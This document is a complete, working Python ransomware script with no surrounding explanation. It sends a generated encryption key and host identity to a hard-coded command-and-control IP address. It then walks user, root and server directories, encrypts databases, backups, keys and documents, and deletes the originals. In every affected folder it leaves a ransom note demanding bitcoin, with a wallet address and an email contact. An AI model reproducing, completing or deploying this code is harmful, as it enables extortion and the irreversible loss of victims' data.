#!/usr/bin/env python3
import os
import socket
import getpass
import requests
from cryptography.fernet import Fernet

C2 = "http://185.243.112.77:8080/k"
ROOTS = ["/home", "/root", "/srv", "/opt", "/data"]
SKIP = {"/proc", "/sys", "/dev", "/run", "/boot", "/usr", "/lib", "/bin", "/sbin", "/etc"}
EXTS = {".sql", ".db", ".sqlite", ".csv", ".json", ".yaml", ".yml", ".env", ".pem",
        ".key", ".doc", ".docx", ".xls", ".xlsx", ".pdf", ".tar", ".gz", ".zip", ".bak"}
NOTE = """
YOUR FILES HAVE BEEN ENCRYPTED.
All databases, backups and documents on this host are encrypted with a unique key.
To recover them send 0.15 BTC to bc1q9h7k3x0m2w5r8t4y6u2p0l3k5j7h9g1f2d4s6a
and e-mail your ID to recover@onionmail.org
ID: {hid}
Do not rename files or try third-party tools, you will lose your data forever.
"""


def host_id():
    return "%s-%s" % (socket.gethostname(), getpass.getuser())


def send_key(key):
    try:
        requests.post(C2, data={"id": host_id(), "k": key.decode()}, timeout=10)
        return True
    except Exception:
        return False


def encrypt(path, f):
    with open(path, "rb") as fh:
        data = fh.read()
    with open(path + ".enc", "wb") as fh:
        fh.write(f.encrypt(data))
    os.remove(path)


def main():
    key = Fernet.generate_key()
    if not send_key(key):
        # keep it locally, drop later
        with open("/tmp/.k", "wb") as fh:
            fh.write(key)
    f = Fernet(key)
    for root in ROOTS:
        for dirpath, dirnames, filenames in os.walk(root):
            dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) not in SKIP]
            hit = False
            for name in filenames:
                if os.path.splitext(name)[1].lower() not in EXTS:
                    continue
                p = os.path.join(dirpath, name)
                try:
                    encrypt(p, f)
                    hit = True
                except (PermissionError, OSError):
                    pass
            if hit:
                try:
                    with open(os.path.join(dirpath, "README_DECRYPT.txt"), "w") as nf:
                        nf.write(NOTE.format(hid=host_id()))
                except OSError:
                    pass
    del key, f


if __name__ == "__main__":
    main()
